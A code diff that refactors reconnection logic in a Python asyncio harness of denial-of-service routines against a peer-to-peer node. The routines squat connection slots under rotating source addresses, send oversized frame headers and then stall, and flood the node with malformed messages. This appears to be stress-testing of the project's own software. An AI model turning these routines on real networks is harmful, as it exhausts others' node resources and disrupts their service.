@@ -163,6 +163,21 @@ async def _until(stop: asyncio.Event, seconds: float) -> bool:
     return stop.is_set()
 
 
+async def _top_up(peers: list[RawPeer], count: int, stats: AttackStats,
+                  connect: Callable[[int], Awaitable[RawPeer]]) -> list[RawPeer]:
+    """``peers`` without the ones the node dropped, refilled to ``count`` with
+    ``connect(n)`` (n: connections made so far); stops at the first failure."""
+    alive = [p for p in peers if not p.writer.is_closing() and not p.reader.at_eof()]
+    while len(alive) < count:
+        try:
+            alive.append(await connect(stats.connects))
+            stats.connects += 1
+        except (OSError, asyncio.IncompleteReadError) as exc:
+            stats.failed(exc)
+            break
+    return alive
+
+
 def _claims(target: Target) -> list[Message]:
     info = target.learner_info
     out: list[Message] = [hello()]
@@ -229,19 +244,15 @@ async def squatters(target: Target, stop: asyncio.Event, count: int = 16, subnet
     send nothing else: slots and neighbourship for free, if the node lets them."""
     stats = AttackStats("squatters")
     peers: list[RawPeer] = []
+
+    async def connect(n: int) -> RawPeer:
+        peer = await RawPeer.connect(target.addr, source=attacker_host(n % subnets, (n // subnets) % 250, base=40))
+        await peer.send([*_claims(target), Link(active=1, degree=1)])
+        return peer
+
     try:
         while not stop.is_set():
-            peers = [p for p in peers if not p.writer.is_closing()]
-            while len(peers) < count and not stop.is_set():
-                source = attacker_host(len(peers) % subnets, len(peers) // subnets, base=40)
-                try:
-                    peer = await RawPeer.connect(target.addr, source=source)
-                    await peer.send([*_claims(target), Link(active=1, degree=1)])
-                    peers.append(peer)
-                    stats.connects += 1
-                except (OSError, asyncio.IncompleteReadError) as exc:
-                    stats.failed(exc)
-                    break
+            peers = await _top_up(peers, count, stats, connect)
             for peer in peers:
                 peer.write(peer.frame(FrameType.PING, b"x"))
             if await _until(stop, 5.0):
@@ -258,18 +269,15 @@ async def big_headers(target: Target, stop: asyncio.Event, connections: int = 16
     a few bytes of it and stall (remade when dropped)."""
     stats = AttackStats("big_headers")
     peers: list[RawPeer] = []
+
+    async def connect(n: int) -> RawPeer:
+        peer = await RawPeer.connect(target.addr, source=attacker_host(n % 8, (n // 8) % 250, base=50))
+        peer.write(FRAME_HEADER.pack(max_frame + 16) + b"\0" * 64)  # + AEAD tag: the largest legal frame
+        return peer
+
     try:
         while not stop.is_set():
-            peers = [p for p in peers if not p.writer.is_closing()]
-            while len(peers) < connections and not stop.is_set():
-                try:
-                    peer = await RawPeer.connect(target.addr, source=attacker_host(len(peers) % 8, len(peers), base=50))
-                    peer.write(FRAME_HEADER.pack(max_frame + 16) + b"\0" * 64)  # + AEAD tag: the largest legal frame
-                    peers.append(peer)
-                    stats.connects += 1
-                except (OSError, asyncio.IncompleteReadError) as exc:
-                    stats.failed(exc)
-                    break
+            peers = await _top_up(peers, connections, stats, connect)
             if await _until(stop, 1.0):
                 break
     finally:
@@ -298,18 +306,15 @@ async def requests(target: Target, stop: asyncio.Event, connections: int = 4, pe
     send malformed messages, over and over: upload and log volume for free."""
     stats = AttackStats("requests")
     peers: list[RawPeer] = []
+
+    async def connect(n: int) -> RawPeer:  # dropped for the garbage: come back as someone new
+        peer = await RawPeer.connect(target.addr, source=attacker_host(n % 64, 0, base=70))
+        await peer.send(_claims(target))
+        return peer
+
     try:
         while not await _until(stop, 1.0 / per_second):
-            peers = [p for p in peers if not p.writer.is_closing() and not p.reader.at_eof()]
-            while len(peers) < connections:  # dropped for the garbage: come back as someone new
-                try:
-                    peer = await RawPeer.connect(target.addr, source=attacker_host(stats.connects % 64, 0, base=70))
-                    await peer.send(_claims(target))
-                    peers.append(peer)
-                    stats.connects += 1
-                except (OSError, asyncio.IncompleteReadError) as exc:
-                    stats.failed(exc)
-                    break
+            peers = await _top_up(peers, connections, stats, connect)
             for peer in peers:
                 peer.write(peer.frame(FrameType.DATA, encode(ModelRequest(round=0))))
                 peer.write(peer.frame(FrameType.DATA, b"\x93\x02\x7f\x80"))  # an unknown message kind
